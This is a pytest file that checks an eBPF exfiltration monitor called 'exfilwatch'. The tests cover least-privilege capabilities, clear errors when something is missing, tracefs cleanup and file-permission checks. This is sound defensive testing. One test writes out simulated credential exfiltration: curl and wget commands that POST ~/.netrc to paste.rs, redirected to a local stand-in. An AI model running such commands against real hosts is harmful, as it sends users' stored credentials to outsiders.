"""Least privilege and a degraded start: the monitor starts with CAP_BPF+CAP_PERFMON+CAP_NET_ADMIN
(no full root), keeps only CAP_SYS_PTRACE once attached, says clearly what is missing (a
capability, tracefs, BTF), refuses a rules file others could change, and creates its output and
health files not writable by others (README, Privileges)."""

import json
import os
import subprocess

import pytest

from harness import Monitor, paths, run_scenario, wait_until
from harness.records import action, get, kind

CAP_SYS_PTRACE = 1 << 19
START_CAPS = "+bpf,+perfmon,+net_admin,+sys_ptrace"


def caps_of(pid):
    status = {}
    with open(f"/proc/{pid}/status") as handle:
        for line in handle:
            key, _, value = line.partition(":")
            status[key] = value.strip()
    return {k: int(status[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")} | \
        {"NoNewPrivs": int(status["NoNewPrivs"])}


def with_caps(caps, argv):
    """argv with only `caps` in the bounding set (so uid 0 gets exactly those), nothing inheritable."""
    return ["setpriv", f"--bounding-set=-all,{caps}", "--inh-caps=-all", *argv]


TLS_HOOKS = [f"{kind}/{target}" for kind in ("uprobe", "uretprobe")
             for target in ("libssl.so.3:SSL_write", "libssl.so.3:SSL_write_ex",
                            "libgnutls.so.30:gnutls_record_send")]


def tls_uprobe(hook):
    return hook["name"].split("/")[0] in ("uprobe", "uretprobe") and "attach failed" in hook["reason"]


def define(line):
    """One line written to tracefs's uprobe_events (a definition, or "-:group/name" to remove one)."""
    fd = os.open("/sys/kernel/tracing/uprobe_events", os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, (line + "\n").encode())
    finally:
        os.close(fd)


def tracefs_uprobes(pid):
    """The uprobe definitions a monitor with this pid holds in tracefs (exfilwatch/ew_<pid>_N)."""
    with open("/sys/kernel/tracing/uprobe_events") as handle:
        return [line for line in handle if f"exfilwatch/ew_{pid}_" in line]


def test_root_run_keeps_only_sys_ptrace(monitor):
    caps = caps_of(monitor.pid)
    assert caps["CapEff"] == caps["CapPrm"] == CAP_SYS_PTRACE, {k: hex(v) for k, v in caps.items()}
    assert caps["CapBnd"] == CAP_SYS_PTRACE and caps["CapInh"] == caps["CapAmb"] == 0
    assert caps["NoNewPrivs"] == 1
    assert get(monitor.started_record, "exfilwatch.capabilities") == ["cap_sys_ptrace"]
    # the loop still reads the kernel's maps and the ring buffer without the rest
    subprocess.run(["/bin/true", "after-drop"], check=True)
    monitor.wait_for(lambda r: action(r) == "exec" and "after-drop" in (get(r, "process.args") or []),
                     what="an exec after the drop")


def test_runs_with_exactly_the_documented_capabilities(tmp_path):
    mon = Monitor(tmp_path, events="exec", extra_args=["--stats-interval", "1"])
    mon.argv = with_caps(START_CAPS, mon.argv)
    with mon:
        # Every hook, the TLS plaintext uprobes too: Linux 6.16+ refuses the uprobe PMU without
        # CAP_SYS_ADMIN, so they are defined through tracefs (README, Privileges).
        assert get(mon.started_record, "exfilwatch.hooks.degraded") == []
        assert set(TLS_HOOKS) <= set(get(mon.started_record, "exfilwatch.hooks.attached")), mon.started_record
        caps = caps_of(mon.pid)
        assert caps["CapEff"] == caps["CapPrm"] == CAP_SYS_PTRACE, {k: hex(v) for k, v in caps.items()}
        subprocess.run(["/bin/true", "least-privilege"], check=True)
        mon.wait_for(lambda r: action(r) == "exec" and "least-privilege" in (get(r, "process.args") or []),
                     what="an exec seen under least privilege")
        mon.wait_for(lambda r: kind(r) == "metric" and get(r, "exfilwatch.stats.kernel.records.exec", 0) > 0,
                     what="kernel counters read after the drop")


def netrc_scan(record, source):
    """A content-scan record of `source` (openssl, gnutls) that found ~/.netrc's fingerprint."""
    return action(record) == "content-scan" and get(record, "exfilwatch.content.source") == source and any(
        m["path"].endswith("/.netrc") for m in get(record, "exfilwatch.content.matches", []))


def test_tls_plaintext_is_matched_under_exactly_the_documented_capabilities(tmp_path, fake_home, standin):
    """Content matching works where the DaemonSet runs: curl (OpenSSL) and wget (GnuTLS) posting
    ~/.netrc over TLS are seen in the plaintext by a monitor with only BPF, PERFMON, NET_ADMIN and
    SYS_PTRACE, and alert on the content; its tracefs uprobes are gone when it stops."""
    mon = Monitor(tmp_path / "mon", events="content")
    mon.argv = with_caps(START_CAPS, mon.argv)
    port = standin.https_port
    with mon:
        assert set(TLS_HOOKS) <= set(get(mon.started_record, "exfilwatch.hooks.attached")), mon.started_record
        assert len(tracefs_uprobes(mon.pid)) == len(TLS_HOOKS)
        run_scenario(f"curl -sS -k --resolve paste.rs:{port}:127.0.0.1 -o /dev/null "
                     f"--data-binary @$HOME/.netrc https://paste.rs:{port}/", fake_home.env()).check("curl")
        run_scenario(f"wget -q -O /dev/null --no-check-certificate --post-file=$HOME/.netrc "
                     f"--execute=use_proxy=off https://127.0.0.1:{port}/", fake_home.env()).check("wget")
        for source in ("openssl", "gnutls"):
            mon.wait_for(lambda r, source=source: netrc_scan(r, source), what=f"a {source} scan matching ~/.netrc")
        mon.wait_for(lambda r: kind(r) == "alert" and any(
            s.get("name") == "content-match" for s in get(r, "exfilwatch.signals", [])),
            what="an alert with a content-match signal")
        pid = mon.pid
    assert tracefs_uprobes(pid) == []


@pytest.mark.parametrize("caps,missing", [("+bpf,+perfmon", "CAP_NET_ADMIN"),
                                          ("+perfmon,+net_admin", "CAP_BPF"),
                                          ("+net_admin", "CAP_BPF, CAP_PERFMON")])
def test_missing_capability_is_one_clear_line(caps, missing):
    done = subprocess.run(with_caps(caps, [str(paths.monitor_binary()), "run", "--duration", "1"]),
                          capture_output=True, timeout=30)
    stderr = done.stderr.decode()
    assert done.returncode == 2, stderr
    assert done.stdout == b""
    assert len(stderr.splitlines()) == 1 and f"missing {missing} " in stderr, stderr


def test_without_tracefs_the_syscall_hooks_degrade_and_say_why(tmp_path):
    """tracefs hidden in a private mount namespace and no CAP_SYS_ADMIN to mount it: the syscall
    tracepoints are reported degraded with the fix, everything else attaches and works."""
    mon = Monitor(tmp_path, events="exec")
    mon.argv = ["unshare", "-m", "--propagation", "private", "sh", "-c",
                "mount -t tmpfs none /sys/kernel/tracing && "
                "{ ! mountpoint -q /sys/kernel/debug || mount -t tmpfs none /sys/kernel/debug; } && "
                'exec "$@"', "sh", *with_caps(START_CAPS, mon.argv)]
    with mon:
        degraded = get(mon.started_record, "exfilwatch.hooks.degraded")
        attached = get(mon.started_record, "exfilwatch.hooks.attached")
        degraded = [d for d in degraded if not tls_uprobe(d)]  # as in the test above
        assert degraded and all(d["name"].startswith("tp/syscalls/") for d in degraded), degraded
        for hook in degraded:
            assert "tracefs not mounted" in hook["reason"] and "mount -t tracefs" in hook["reason"], hook
        assert "tp_btf/sched_process_exec" in attached and "cgroup/connect4" in attached, attached
        subprocess.run(["/bin/true", "degraded-run"], check=True)
        mon.wait_for(lambda r: action(r) == "exec" and "degraded-run" in (get(r, "process.args") or []),
                     what="an exec seen by the hooks that did attach")


def test_definitions_a_killed_monitor_left_are_removed_at_the_next_start(tmp_path):
    """A monitor killed (SIGKILL, OOM) cannot remove its tracefs uprobes: the next start removes
    those of pids that run no more, and leaves a live one's alone."""
    dead = subprocess.Popen(["/bin/true"])
    dead.wait()
    library = "/usr/lib/x86_64-linux-gnu/libssl.so.3"
    left = [f"p:exfilwatch/ew_{dead.pid}_0 {library}:0x0", f"r:exfilwatch/ew_{dead.pid}_1 {library}:0x0"]
    alive = f"p:exfilwatch/ew_{os.getpid()}_0 {library}:0x0"  # this test's own pid: alive
    for line in [*left, alive]:
        define(line)
    try:
        assert len(tracefs_uprobes(dead.pid)) == 2
        mon = Monitor(tmp_path, events="exec")
        mon.argv = with_caps(START_CAPS, mon.argv)
        with mon:
            assert tracefs_uprobes(dead.pid) == []
            assert len(tracefs_uprobes(os.getpid())) == 1
    finally:
        for name in (f"ew_{os.getpid()}_0", f"ew_{dead.pid}_0", f"ew_{dead.pid}_1"):
            try:
                define(f"-:exfilwatch/{name}")
            except OSError:
                pass  # already gone


def test_read_only_tracefs_degrades_the_tls_uprobes_and_says_why(tmp_path):
    """tracefs read-only (the DaemonSet before its mount was made read-write) and no
    CAP_SYS_ADMIN: the TLS uprobes cannot be defined and say so with the fix; the syscall
    tracepoints, which only read tracefs, attach."""
    mon = Monitor(tmp_path, events="exec")
    mon.argv = ["unshare", "-m", "--propagation", "private", "sh", "-c",
                'mount -o remount,bind,ro /sys/kernel/tracing && exec "$@"', "sh", *with_caps(START_CAPS, mon.argv)]
    with mon:
        degraded = get(mon.started_record, "exfilwatch.hooks.degraded")
        assert sorted(d["name"] for d in degraded) == sorted(TLS_HOOKS), degraded
        for hook in degraded:
            assert "Read-only file system" in hook["reason"] and "read-write" in hook["reason"], hook
        assert any(h.startswith("tp/syscalls/") for h in get(mon.started_record, "exfilwatch.hooks.attached"))


def test_without_btf_the_error_says_what_is_needed():
    done = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                           'mount -t tmpfs none /sys/kernel/btf && exec "$@"', "sh",
                           str(paths.monitor_binary()), "run", "--duration", "1"],
                          capture_output=True, timeout=30)
    stderr = done.stderr.decode()
    assert done.returncode == 2, stderr
    assert done.stdout == b""
    assert len(stderr.splitlines()) == 1, stderr
    assert "kernel BTF not found at /sys/kernel/btf/vmlinux" in stderr and "CONFIG_DEBUG_INFO_BTF" in stderr


def rules_copy(directory):
    text = subprocess.run([str(paths.monitor_binary()), "rules", "dump"], check=True,
                          capture_output=True).stdout
    directory.mkdir(mode=0o755, exist_ok=True)
    os.chmod(directory, 0o755)
    path = directory / "rules.yaml"
    path.write_bytes(text)
    os.chmod(path, 0o644)
    return path


UNSAFE = [
    ("group_writable", lambda p: os.chmod(p, 0o664), "writable by its group"),
    ("world_writable", lambda p: os.chmod(p, 0o646), "writable by everyone"),
    ("owned_by_a_user", lambda p: os.chown(p, 1000, 0), "owned by uid 1000"),
    ("directory_world_writable", lambda p: os.chmod(p.parent, 0o777), "writable by everyone"),
]


@pytest.mark.parametrize("name,make_unsafe,message", UNSAFE, ids=[u[0] for u in UNSAFE])
def test_rules_file_others_can_change_is_refused(tmp_path, name, make_unsafe, message):
    rules = rules_copy(tmp_path / "etc")
    make_unsafe(rules)
    done = subprocess.run([str(paths.monitor_binary()), "run", "--rules", str(rules), "--duration", "1"],
                          capture_output=True, timeout=30)
    stderr = done.stderr.decode()
    assert done.returncode == 1, stderr
    assert done.stdout == b""
    assert len(stderr.splitlines()) == 1 and "refusing rules file" in stderr and message in stderr, stderr
    # replay needs no privilege and reads the user's own files as they are
    done = subprocess.run([str(paths.monitor_binary()), "replay", "-", "--rules", str(rules)],
                          input=b"", capture_output=True, timeout=30)
    assert done.returncode == 0, done.stderr


def test_sticky_directory_and_root_owned_rules_are_accepted(tmp_path):
    rules = rules_copy(tmp_path / "sticky")
    os.chmod(rules.parent, 0o1777)
    with Monitor(tmp_path / "mon", events="", extra_args=["--rules", str(rules)]) as mon:
        assert get(mon.started_record, "exfilwatch.rules.source") == str(rules)


def test_output_and_health_files_are_not_writable_by_others(tmp_path):
    output = tmp_path / "out.ndjson"
    health = tmp_path / "health"
    health.touch()
    os.chmod(health, 0o666)  # left behind writable: the monitor fixes it
    done = subprocess.run(["sh", "-c", 'umask 000 && exec "$@"', "sh", str(paths.monitor_binary()), "run",
                           "--duration", "2", "--output", str(output), "--health-file", str(health)],
                          capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    for path in (output, health):
        mode = os.stat(path).st_mode & 0o777
        assert mode & 0o022 == 0, (path, oct(mode))
    records = [json.loads(line) for line in output.read_text().splitlines()]
    assert action(records[0]) == "monitor-started"
